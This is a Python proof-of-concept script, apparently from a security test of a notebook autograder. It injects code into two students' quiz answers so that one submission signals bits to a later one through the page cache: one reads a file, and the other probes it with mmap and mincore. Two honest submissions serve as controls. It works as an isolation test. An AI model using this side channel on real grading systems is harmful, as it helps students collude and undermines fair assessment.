"""a09's mincore as a channel between two submissions graded one after the other (ordinary user: serial). The
host first evicts two uncached venv files X and Y; mallory's kernel reads X (a '1') and leaves Y (a '0'); nora,
graded later, reads nothing and asks mincore about X and Y. aaron and zoe are honest controls."""
from lib import *
import glob
A = "ps1_memory"
venv = "CLONE/.venv/lib/python3.11/site-packages"
cands = sorted(glob.glob(venv + "/playwright/**/*.py", recursive=True), key=os.path.getsize)
X, Y = cands[-3], cands[-4]
for f in (X, Y):
    fd = os.open(f, os.O_RDONLY); os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED); os.close(fd)
MINCORE = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
def cached(path):
    fd = os.open(path, os.O_RDONLY); size = os.fstat(fd).st_size
    addr = libc.mmap(None, size, 1, 1, fd, 0); os.close(fd)
    pages = (size + 4095) // 4096; vec = (ctypes.c_ubyte * pages)()
    libc.mincore(ctypes.c_void_p(addr), ctypes.c_size_t(size), vec)
    return sum(v & 1 for v in vec) / pages
'''
SEND = f"\nopen({X!r}, 'rb').read()\nprint('SENT 1 on X')\n"
RECV = MINCORE + f"\nbits = [1 if cached(p) > 0.5 else 0 for p in ({X!r}, {Y!r})]\nprint('RECEIVED', bits, [round(cached(p), 2) for p in ({X!r}, {Y!r})])\n"
src = source_nb(A)
from tools.submissions import solution_text
q1 = [solution_text(c) for c in src.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "quiz_q1"][0]
d = make_course("a10")
hand_in(d, "aaron", A, honest(A))
hand_in(d, "mallory", A, fill(release_nb(A), src, {"quiz_q1": q1 + SEND}))
hand_in(d, "nora", A, fill(release_nb(A), src, {"quiz_q1": q1 + RECV}))
hand_in(d, "zoe", A, honest(A))
grade(d, A)
os.system(f"cat {d}/grades.csv")
for s in ("mallory", "nora"):
    nb = nbformat.read(f"{d}/autograded/{s}/{A}/{A}.ipynb", as_version=4)
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "quiz_q1":
            for o in c.outputs: print(s, o.get("text") or o)
